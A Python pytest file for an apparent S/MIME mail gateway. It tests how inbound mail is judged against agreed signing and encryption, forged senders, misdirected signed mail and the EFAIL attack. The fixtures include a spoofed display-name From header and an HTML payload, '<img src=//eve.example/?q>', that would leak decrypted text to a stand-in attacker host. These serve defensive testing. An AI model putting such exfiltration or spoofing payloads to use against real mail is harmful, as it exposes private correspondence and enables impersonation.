"""Arriving mail against what was agreed, whom it was signed for, and what it would do."""

from dataclasses import replace

import pytest
from tests.world import (
    ANCHORS,
    THEIRS,
    World,
    arriving,
    drive,
    facts,
    incoming,
    octets,
    only,
    outgoing,
    person,
    recipients,
    told,
)

from gatepost.flow import inbound, outbound
from gatepost.flow.decision import Done
from gatepost.flow.verdict import Continue, Hold, Outcome
from gatepost.mail.message import Message
from gatepost.mime import headers
from gatepost.smime.encrypt import encrypt

BOB, ALICE, ANNA = "bob@partner.example", "alice@xyz.example", "anna@xyz.example"
CAROL = "carol@other.example"
KNOWN = facts(openers=[ALICE, ANNA], anchors={THEIRS: ANCHORS})
MAIL = f"From: Bob <{BOB}>\nTo: {{to}}\nSubject: Figures\n\nThe secret figures.\n"
EXPECT = (
    '[[inbound.rule]]\nname = "Partner"\nfrom = "partner.example"\nexpect = "{}"\nunmet = "{}"\n'
)


def sent(
    to: str = ALICE, policy: str = "", *, signs: bool = True, encrypts: bool = True
) -> Message:
    """Bob's mail as it leaves his gateway; its header names `to`, it is encrypted to Alice."""
    text = MAIL.format(to=to)
    wished = f'sign = "{"always" if signs else "never"}"\nencrypt = "{"when-possible" if encrypts else "never"}"\n'
    world = World.under(
        f"[defaults]\n{wished}{policy}",
        facts(readers=[ALICE], signers=[BOB]),
        domains=frozenset({THEIRS}),
        hostname="gate.partner.example",
    )
    return arriving(only(world.drive(outgoing(text, ALICE, sender=BOB), outbound.STAGES)))


def shown(outcome: Outcome, name: str = "Subject") -> str:
    """The text of a header field."""
    field = headers.first(outcome.message.header, name)
    return field.text if field else ""


@pytest.mark.parametrize(
    ("expect", "signs", "encrypts", "lack"),
    [
        ("signed", True, False, ""),
        ("signed", False, False, "not validly signed by its author"),
        ("encrypted", True, False, "not encrypted"),
        ("encrypted", False, True, ""),
        ("signed+encrypted", True, True, ""),
        ("signed+encrypted", False, False, "not validly signed by its author and not encrypted"),
        ("nothing", False, False, ""),
    ],
)
def test_what_was_agreed(expect: str, signs: bool, encrypts: bool, lack: str) -> None:
    """Forged mail of a partner who always signs looks like any unsigned mail."""
    message = sent(signs=signs, encrypts=encrypts)
    outcome = only(drive(message, inbound.STAGES, KNOWN, EXPECT.format(expect, "deliver")))
    assert outcome.verdict == Continue()
    assert shown(outcome).endswith("[not protected as agreed] Figures") == bool(lack)
    assert told([outcome])[ALICE].reason.startswith(lack)
    assert bool(told([outcome])[ALICE].reason) == bool(lack)
    assert lack in shown(outcome, "Authentication-Results")
    held = only(drive(message, inbound.STAGES, KNOWN, EXPECT.format(expect, "hold")))
    assert isinstance(held.verdict, Hold) == bool(lack)
    assert (told([held])[ALICE].done is Done.HELD) == bool(lack)


def test_a_name_that_shows_the_partner_is_enough() -> None:
    """Eve shows Bob's address as her name and need not sign."""
    mail = MAIL.format(to=ALICE).replace(f"Bob <{BOB}>", f'"{BOB}" <eve@evil.example>')
    outcome = only(
        drive(incoming(mail, ALICE), inbound.STAGES, KNOWN, EXPECT.format("signed", "hold"))
    )
    assert isinstance(outcome.verdict, Hold)


@pytest.mark.parametrize(
    ("to", "fields", "tag", "remark"),
    [
        (ALICE, "", "[encrypted] [signed]", ""),
        ("alice+figures@xyz.example", "", "[encrypted] [signed]", ""),
        (
            CAROL,
            "",
            "[encrypted] [signed: to others]",
            f"signed for {CAROL}: passed on by a reader",
        ),
        (ANNA, "", "[encrypted] [signed]", f"signed for {ANNA}, not for this recipient"),
        (CAROL, "List-Id: <list.other.example>\r\n", "[encrypted] [signed]", "sent on by a list"),
        (CAROL, "Resent-To: alice@xyz.example\r\n", "[encrypted] [signed]", "sent on by a list"),
    ],
)
def test_whom_it_was_signed_for(to: str, fields: str, tag: str, remark: str) -> None:
    """Carol sends Bob's signed "you are fired" on to Alice, as if it were meant for her."""
    message = sent(to)
    message = replace(message, header=fields.encode() + message.header)
    outcome = only(drive(message, inbound.STAGES, KNOWN))
    assert outcome.verdict == Continue()
    assert shown(outcome) == f"{tag} Figures"
    assert remark in shown(outcome, "Authentication-Results")
    held = only(drive(message, inbound.STAGES, KNOWN, '[inbound]\nmisdirected = "hold"\n'))
    assert isinstance(held.verdict, Hold) == ("others" in tag)


def test_each_recipient_is_told_of_himself() -> None:
    """Anna, who got a copy she was not named for, makes Alice's mail look misdirected."""
    message = incoming(octets(Outcome(sent(), Continue())), ALICE, ANNA)
    both = facts(openers=[ALICE], anchors={THEIRS: ANCHORS})
    outcomes = drive(message, inbound.STAGES, both)
    assert sorted(recipients(one) for one in outcomes) == [(ALICE,), (ANNA,)]
    clear = incoming(octets(Outcome(sent(encrypts=False), Continue())), ALICE, ANNA)
    outcomes = drive(clear, inbound.STAGES, both)
    assert [recipients(one) for one in outcomes] == [(ALICE,), (ANNA,)]
    remarks = [shown(one, "Authentication-Results") for one in outcomes]
    assert ["not for this recipient" in one for one in remarks] == [False, True]


def test_an_unsigned_header_says_nothing() -> None:
    """Whoever forges the fields inside an encryption chooses what is reported."""
    message = sent(CAROL, signs=False)
    outcome = only(drive(message, inbound.STAGES, KNOWN))
    assert shown(outcome) == "[encrypted] Figures"


HTML = (
    f"From: {BOB}\nTo: {ALICE}\nSubject: x\nContent-Type: text/html\n\n"
    "<img src=//eve.example/?q>The secret figures.\n"
)


def unsigned(cipher: str) -> Message:
    """Unsigned HTML, encrypted like this."""
    message = incoming(HTML, ALICE)
    reader, entropy = person(ALICE).certificate, World().context().entropy
    header, body = encrypt(message.header, message.body, [reader], cipher=cipher, entropy=entropy)
    return replace(message, header=header, body=body)


@pytest.mark.parametrize(
    ("cipher", "setting", "kind"),
    [
        ("aes256-cbc", "neutralise", "text/plain"),
        ("aes256-cbc", "keep", "text/html"),
        ("aes256-gcm", "neutralise", "text/html"),
    ],
)
def test_html_of_unproven_text(cipher: str, setting: str, kind: str) -> None:
    """EFAIL: what was decrypted leaves again as the address of a picture."""
    policy = f'[inbound]\nactive_content = "{setting}"\n'
    outcome = only(drive(unsigned(cipher), inbound.STAGES, KNOWN, policy))
    assert headers.content_type(outcome.message.header).essence == kind
    assert b"<img src=//eve.example/?q>The secret" in octets(outcome)
    assert shown(outcome) == "[encrypted] x"
    remark = "active HTML of unproven text made plain attachments, 1 in number"
    assert (remark in shown(outcome, "Authentication-Results")) == (kind == "text/plain")


@pytest.mark.parametrize("forged", [False, True])
def test_what_is_signed_stays_as_it_is_unless_it_is_broken(forged: bool) -> None:
    """A valid signature would break by our own hand, or a broken one switch the guard off."""
    world = World.under("", facts(signers=[BOB]), domains=frozenset({THEIRS}))
    signed = octets(only(world.drive(outgoing(HTML, ALICE, sender=BOB), outbound.STAGES)))
    if forged:
        signed = signed.replace(b"The secret", b"Thy secret")
    message = incoming(signed, ALICE)
    reader, entropy = person(ALICE).certificate, World().context().entropy
    header, body = encrypt(
        message.header, message.body, [reader], cipher="aes256-cbc", entropy=entropy
    )
    sealed = replace(message, header=header, body=body)
    policy = '[inbound]\nactive_content = "neutralise"\nkeep_signature = true\n'
    outcome = only(drive(sealed, inbound.STAGES, KNOWN, policy))
    assert (b"Content-Type: text/html" in octets(outcome)) is not forged
    assert (b"active-content.txt" in octets(outcome)) is forged
